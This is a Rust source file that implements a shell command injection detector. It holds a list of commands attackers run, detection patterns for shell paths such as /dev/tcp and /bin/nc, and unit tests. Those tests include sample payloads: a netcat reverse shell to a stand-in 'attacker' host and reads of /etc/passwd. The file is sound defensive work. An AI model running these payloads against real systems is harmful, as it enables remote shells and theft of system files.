//! The shell command injection detector and its lists of commands.
//! Separate because it reads shell syntax: separators, substitutions and
//! the first word of a command.

use super::Verdict;
use super::decode::{charge, scan};

/// Commands attackers run first.
const COMMANDS: &[&str] = &[
    "id",
    "whoami",
    "uname",
    "cat",
    "ls",
    "dir",
    "pwd",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "dash",
    "ping",
    "sleep",
    "echo",
    "rm",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "nslookup",
    "dig",
    "ifconfig",
    "ipconfig",
    "net",
    "type",
    "whoami.exe",
    "powershell",
    "cmd",
    "cmd.exe",
    "systeminfo",
    "hostname",
    "env",
    "printenv",
    "chmod",
    "chown",
    "touch",
    "tftp",
    "telnet",
    "xterm",
    "nohup",
    "base64",
    "sudo",
    "su",
    "kill",
    "reboot",
    "shutdown",
    "find",
    "grep",
    "head",
    "tail",
    "more",
    "less",
    "expr",
    "timeout",
    "usleep",
    "ps",
    "netstat",
    "netsh",
    "reg",
    "route",
    "sysinfo",
    "arp",
    "nmap",
    "ssh",
    "scp",
    "crontab",
    "awk",
    "sed",
    "xargs",
    "mkfifo",
    "certutil",
    "bitsadmin",
    "wscript",
    "cscript",
];

/// Flags input that looks like shell command injection: a command
/// separator (`;`, `|`, `||`, `&&`, `&`, a newline) or a substitution (`` ` ``,
/// `$(`) followed by a common command, `${IFS}` tricks, shell paths
/// (`/bin/sh`, `cmd.exe`), and redirections to absolute paths.
///
/// Defense in depth only: never pass input to a shell; pass arguments to
/// `std::process::Command` one by one.
///
/// # Examples
///
/// ```
/// use pr_security::signals::{Verdict, command_injection_signal};
///
/// assert!(command_injection_signal("8.8.8.8; cat /etc/passwd").is_suspicious());
/// assert!(command_injection_signal("$(whoami)").is_suspicious());
/// assert_eq!(command_injection_signal("Fish & Chips; Salt"), Verdict::Clean);
/// ```
#[must_use]
pub fn command_injection_signal(input: &str) -> Verdict {
    scan(input, false, command_window)
}

/// One window of normalised input (see `decode::scan`).
fn command_window(text: &str) -> Verdict {
    let bytes = text.as_bytes();
    if text.contains("${ifs") || text.contains("$ifs") {
        return Verdict::Suspicious("ifs obfuscation");
    }
    for shell in [
        "/bin/sh",
        "/bin/bash",
        "/bin/zsh",
        "/usr/bin/",
        "/bin/nc",
        "/dev/tcp/",
        "cmd.exe",
        "cmd /c",
        "powershell",
    ] {
        if text.contains(shell) {
            return Verdict::Suspicious("shell path");
        }
    }
    if let Some(start) = text.find("$(")
        && text[start..].contains(')')
    {
        return Verdict::Suspicious("command substitution");
    }
    if let Some(start) = text.find('`')
        && let Some(len) = text[start + 1..].find('`')
    {
        let inner = &text[start + 1..start + 1 + len];
        // In prose, `id` or `type` in backticks is code formatting; count a
        // bare ambiguous word only at the start or after a separator.
        let at_boundary = text[..start]
            .trim_end()
            .chars()
            .next_back()
            .is_none_or(|c| matches!(c, ';' | '|' | '&' | '(' | '$' | '=' | '\'' | '"'));
        let word = inner.trim();
        if first_word_is_command(inner) && (at_boundary || !AMBIGUOUS.contains(&word)) {
            return Verdict::Suspicious("command substitution");
        }
    }
    for call in [
        "system(",
        "exec(",
        "passthru(",
        "shell_exec(",
        "popen(",
        "proc_open(",
        "pcntl_exec(",
        "runtime.getruntime",
        "child_process",
        "os.system(",
        "subprocess.",
    ] {
        if text.contains(call) {
            return Verdict::Suspicious("code execution call");
        }
    }
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        // A literal `\n` (backslash, n) is a separator once something unescapes it.
        if b == b'\\' && bytes.get(i + 1) == Some(&b'n') && first_word_is_command(&text[i + 2..]) {
            return Verdict::Suspicious("command separator followed by a command");
        }
        if matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r') {
            let mut j = i + 1;
            while bytes
                .get(j)
                .is_some_and(|c| matches!(c, b'|' | b'&' | b' ' | b'\t' | b'\n' | b'\r'))
            {
                j += 1;
            }
            charge(j - i);
            if first_word_is_command(&text[j..]) {
                return Verdict::Suspicious("command separator followed by a command");
            }
            // Every separator in `i + 1..j` would skip to the same `j` and
            // ask the same question: go on from `j`. Without this, a run of
            // 16 KiB of `&` cost 0.2–0.4 s (quadratic).
            i = j.max(i + 1);
            continue;
        }
        i += 1;
    }
    for redirect in ["> /", ">/", ">> /", "< /etc", "</etc"] {
        if text.contains(redirect) {
            return Verdict::Suspicious("redirection to an absolute path");
        }
    }
    Verdict::Clean
}

/// Command names that are also common words: they count only when an
/// argument-like token or nothing follows.
const AMBIGUOUS: &[&str] = &[
    "cat", "dir", "type", "net", "more", "less", "head", "tail", "find", "echo", "sleep", "kill",
    "env", "touch", "expr", "ping", "su", "id", "ls", "ps", "sh", "timeout", "grep",
];

/// Whether `text` starts with a known command as a whole word.
fn first_word_is_command(text: &str) -> bool {
    let trimmed = text.trim_start();
    let word_len = trimmed
        .bytes()
        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'/'))
        .count();
    charge(text.len() - trimmed.len() + word_len + 1);
    let word = &trimmed[..word_len];
    let name = word.rsplit('/').next().unwrap_or(word);
    // Most candidates (runs of `;`, `&#`) have no word: answer before
    // comparing with every command.
    if name.is_empty() {
        return false;
    }
    if !COMMANDS.contains(&name) {
        return false;
    }
    let rest = &trimmed[word.len()..];
    let Some(after) = rest.chars().next() else {
        return true;
    };
    if matches!(
        after,
        ';' | '|' | '&' | '`' | ')' | '$' | '<' | '>' | '\n' | '\r' | '#' | '\\'
    ) {
        return true;
    }
    if !matches!(after, ' ' | '\t') {
        return false;
    }
    if !AMBIGUOUS.contains(&name) {
        return true;
    }
    let arg = rest.trim_start();
    charge(rest.len() - arg.len());
    arg.is_empty()
        || arg.starts_with(|c: char| {
            c.is_ascii_digit()
                || matches!(
                    c,
                    '-' | '/' | '.' | '$' | '~' | '\'' | '"' | '*' | ';' | '|' | '&' | '\n'
                )
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn command() {
        for attack in [
            "; id",
            "| whoami",
            "&& cat /etc/passwd",
            "`id`",
            "$(sleep 5)",
            "a;${IFS}cat${IFS}/etc/passwd",
            "127.0.0.1\nls -la",
            "x | nc attacker 4444 -e /bin/sh",
            "|| ping -c 10 127.0.0.1",
            "& dir",
        ] {
            assert!(command_injection_signal(attack).is_suspicious(), "{attack}");
        }
        for honest in [
            "Fish & Chips",
            "rock | roll",
            "Q&A; session",
            "Salt & Pepper; Sugar",
            "price: $5 (about)",
            "see: cat pictures",
            "Tom & Jerry; Cat and Mouse",
        ] {
            assert_eq!(command_injection_signal(honest), Verdict::Clean, "{honest}");
        }
    }
}
